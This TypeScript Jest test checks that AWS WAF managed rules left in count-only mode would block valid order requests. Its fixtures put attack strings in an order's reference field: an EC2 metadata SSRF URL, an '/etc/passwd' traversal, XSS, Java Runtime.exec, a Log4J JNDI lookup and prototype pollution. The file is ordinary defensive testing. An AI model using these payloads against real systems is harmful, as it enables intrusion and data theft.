import { readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import { body } from '../../functions/generated/validators/createOrder.js';
import { commonRuleSet, knownBadInputs } from '../../packages/penstock/constructs/managed-rules.ts';

const counted = [...commonRuleSet.counted, ...knownBadInputs.counted];
const item = { sku: 'A'.repeat(64), quantity: 1, unitPrice: 1 };
const order = (reference: string, count = 1) => ({ currency: 'EUR', items: Array(count).fill(item), reference });

/** An order that trips each rule, as AWS describes what it looks for. */
const tripping: Readonly<Record<string, object>> = {
  SizeRestrictions_BODY: order('PO-1001', 100),
  EC2MetaDataSSRF_BODY: order('http://169.254.169.254/latest/meta-data'),
  GenericLFI_BODY: order('../../etc/passwd'),
  GenericRFI_BODY: order('http://10.0.0.1/x.php?y=1'),
  CrossSiteScripting_BODY: order('<script>alert(1)</script>'),
  JavaDeserializationRCE_BODY: order('(java.lang.Runtime).getRuntime().exec("id")'),
  Log4JRCE_BODY: order('$' + '{jndi:ldap://example.com/a}'),
  ReactJSRCE_BODY: order('{"then":"$1:__proto__:then"}'),
};

describe('a rule of the firewall that only counts', () => {
  it.each(Object.entries(tripping))('%s would block an order that the contract allows', (rule, request) => {
    expect(body(request)).toBe(true);
    expect(counted).toContain(rule);
  });

  it('is named with its request, in a test and in the decision', () => {
    const decision = readFileSync('docs/decisions/0039-limits-that-agree.md', 'utf8');

    expect(counted.filter((rule) => rule.endsWith('_BODY')).toSorted()).toEqual(Object.keys(tripping).toSorted());
    expect(counted.filter((rule) => !decision.includes(`| \`${rule}\` |`))).toEqual([]);
    expect(JSON.stringify(tripping.SizeRestrictions_BODY).length).toBeGreaterThan(8192);
  });
});
